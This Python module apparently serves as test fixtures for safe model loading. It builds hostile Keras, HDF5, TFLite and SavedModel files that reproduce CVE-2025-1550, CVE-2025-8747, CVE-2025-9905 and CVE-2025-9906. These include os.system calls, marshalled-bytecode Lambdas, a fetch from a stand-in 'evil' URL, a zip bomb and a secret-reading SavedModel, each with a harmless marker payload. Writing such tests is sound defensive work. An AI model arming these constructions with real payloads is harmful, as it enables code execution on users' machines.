"""Hostile model files, written without the libraries that they attack where that is possible.

Each of the codes that a model smuggles in makes the file that `marker` names.
"""

import base64
import io
import json
import marshal
import os
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np


def bytecode(marker: Path) -> str:
    """Base64 of a marshalled function that writes the marker, as Keras stores a Lambda."""
    space: dict[str, Any] = {}
    exec(f"def f(x):\n    open({str(marker)!r}, 'w').write('x')\n    return x", space)
    return base64.b64encode(marshal.dumps(space["f"].__code__)).decode()


def input_layer(module: str | None = "keras.layers") -> dict[str, Any]:
    layer: dict[str, Any] = {
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "in"},
        "registered_name": None,
    }
    if module is None:
        layer["config"] |= {"batch_input_shape": [None, 4]}
        del layer["config"]["batch_shape"], layer["registered_name"]
    return layer if module is None else layer | {"module": module}


def sequential(*layers: dict[str, Any], module: str | None = "keras") -> dict[str, Any]:
    model: dict[str, Any] = {
        "class_name": "Sequential",
        "config": {"name": "model", "layers": [input_layer(module and "keras.layers"), *layers]},
    }
    return model if module is None else model | {"module": module, "registered_name": None}


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_layer(called: Any, arguments: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "evil", "function": called, "arguments": arguments or {}},
        "registered_name": None,
    }


def dense(**config: Any) -> dict[str, Any]:
    settings = {"name": "d", "units": 2, "activation": "linear", **config}
    return {"module": "keras.layers", "class_name": "Dense", "config": settings,
            "registered_name": None}  # fmt: skip


def keras_file(config: dict[str, Any], version: str = "3.8.0", **members: bytes) -> bytes:
    weights = io.BytesIO()
    with h5py.File(weights, "w"):
        pass
    return zipped(
        {
            "metadata.json": json.dumps({"keras_version": version}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": weights.getvalue(),
            **members,
        }
    )


def h5_file(config: dict[str, Any], version: str = "2.15.0") -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
    return buffer.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb(declared: int) -> bytes:
    """A zip archive whose directory tells that its last member unpacks to so many bytes."""
    made = bytearray(zipped({"config.json": b"{}", "zeros": bytes(2 << 20)}))
    place = made.rindex(b"PK\x01\x02") + 24
    made[place : place + 4] = declared.to_bytes(4, "little")
    return bytes(made)


def tarred(**links: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def cve_2025_1550(marker: Path) -> bytes:
    """A .keras config that names a function of any module, called with arguments of its own."""
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "os"}
    layer = dense(activation=call) | {
        "inbound_nodes": [{"args": [f"touch {marker}"], "kwargs": {}}]
    }
    return keras_file(sequential(layer))


def cve_2025_8747(marker: Path) -> bytes:
    """Keras's own functions, which safe mode lets through, used to fetch and unpack a file."""
    arguments = {"fname": str(marker), "origin": "http://127.0.0.1:9/evil", "extract": True}
    return keras_file(sequential(lambda_layer(function("keras.utils", "get_file"), arguments)))


def cve_2025_9905(marker: Path) -> bytes:
    """An .h5 with a Lambda: safe mode means nothing to that format in Keras 2."""
    layer = {
        "class_name": "Lambda",
        "config": {"name": "evil", "function": [bytecode(marker) + "\n", None, None],
                   "function_type": "lambda", "output_shape_type": "raw", "output_shape": None,
                   "module": "builtins", "arguments": {}},
    }  # fmt: skip
    return h5_file(sequential(layer, module=None))


def cve_2025_9906(marker: Path) -> bytes:
    """A config that switches safe mode off by a call into Keras, and then brings a Lambda."""
    switch = dense(
        name="switch", activation=function("keras.config", "enable_unsafe_deserialization")
    )
    code = {"class_name": "__lambda__", "config": {"code": bytecode(marker), "defaults": None,
            "closure": None}}  # fmt: skip
    return keras_file(sequential(switch, lambda_layer(code)))


def nested_compile(marker: Path) -> bytes:
    """A model inside a model, whose compile_config is loaded even by `compile=False`."""
    inner = sequential() | {"compile_config": {"optimizer": function("os", "system")}}
    return keras_file(sequential(inner))


CVES: dict[str, Callable[[Path], bytes]] = {
    "CVE-2025-1550": cve_2025_1550,
    "CVE-2025-8747": cve_2025_8747,
    "CVE-2025-9905": cve_2025_9905,
    "CVE-2025-9906": cve_2025_9906,
    "compile_config of an inner model": nested_compile,
}


def sharing_tflite(graphs: int, operators: int, name: int = 0) -> bytes:
    """A .tflite of `graphs` subgraphs that are all the same one, with `operators` operators that
    are all the same one, and tensors that share one name of `name` bytes."""
    import flatbuffers
    from ai_edge_litert import schema_py_generated as schema

    builder = flatbuffers.Builder(1 << 16)

    def vector(start: Any, offset: int, count: int) -> int:
        start(builder, count)
        for _ in range(count):
            builder.PrependUOffsetTRelative(offset)
        return int(builder.EndVector())

    text = builder.CreateString("n" * name)
    schema.TensorStart(builder)
    schema.TensorAddName(builder, text)
    tensors = vector(schema.SubGraphStartTensorsVector, schema.TensorEnd(builder), operators)
    schema.OperatorStart(builder)
    listed = vector(schema.SubGraphStartOperatorsVector, schema.OperatorEnd(builder), operators)
    schema.SubGraphStart(builder)
    schema.SubGraphAddTensors(builder, tensors)
    schema.SubGraphAddOperators(builder, listed)
    subgraphs = vector(schema.ModelStartSubgraphsVector, schema.SubGraphEnd(builder), graphs)
    schema.ModelStart(builder)
    schema.ModelAddVersion(builder, 3)
    schema.ModelAddSubgraphs(builder, subgraphs)
    builder.Finish(schema.ModelEnd(builder), b"TFL3")
    return bytes(builder.Output())


def pack(folder: Path) -> bytes:
    files = sorted(path for path in folder.rglob("*") if path.is_file())
    return zipped({str(path.relative_to(folder)): path.read_bytes() for path in files})


def make_models(folder: Path) -> None:
    """Write sound models of three formats; and a SavedModel that uses files, with the `secret` that
    it reads, whose `marker` it would write. Needs TensorFlow."""
    os.environ["TF_USE_LEGACY_KERAS"] = "1"
    import keras
    import tensorflow as tf
    import tf_keras

    def small(library: Any) -> Any:
        layers = library.layers
        return library.Sequential(
            [
                library.Input((8, 8, 1)), layers.Conv2D(2, 3), layers.BatchNormalization(),
                layers.ReLU(), layers.Flatten(), layers.Dense(3, activation="softmax"),
            ]
        )  # fmt: skip

    small(keras).save(folder / "model.keras")
    small(tf_keras).save(folder / "model.h5")
    small(keras).export(folder / "plain")
    (folder / "model.zip").write_bytes(pack(folder / "plain"))
    (folder / "secret").write_text("the secret")

    class Hostile(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.weight = tf.Variable(tf.ones((4, 2)))

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32)])
        def serve(self, x: Any) -> Any:
            stolen = tf.strings.length(tf.io.read_file(str(folder / "secret")))
            with tf.control_dependencies([tf.io.write_file(str(folder / "marker"), "x")]):
                return x @ self.weight + tf.cast(stolen, tf.float32)

    module = Hostile()
    tf.saved_model.save(module, str(folder / "evil"), signatures=module.serve)
    (folder / "evil.zip").write_bytes(pack(folder / "evil"))
    (folder / "marker").unlink(missing_ok=True)
